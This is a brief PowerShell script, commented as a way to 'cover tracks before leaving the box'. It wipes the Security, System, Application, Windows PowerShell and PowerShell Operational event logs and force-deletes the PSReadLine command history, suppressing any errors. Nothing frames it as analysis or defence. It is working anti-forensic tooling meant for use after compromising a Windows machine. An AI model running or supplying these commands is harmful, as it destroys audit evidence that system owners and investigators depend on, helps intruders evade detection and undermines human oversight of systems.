# cover tracks before leaving the box
$logs = 'Security', 'System', 'Windows PowerShell'
foreach ($l in $logs) {
    wevtutil.exe cl $l
}
Clear-EventLog -LogName Application
[System.Diagnostics.Eventing.Reader.EventLogSession]::GlobalSession.ClearLog('Microsoft-Windows-PowerShell/Operational')
Remove-Item -Path (Get-PSReadLineOption).HistorySavePath -Force -ErrorAction SilentlyContinue
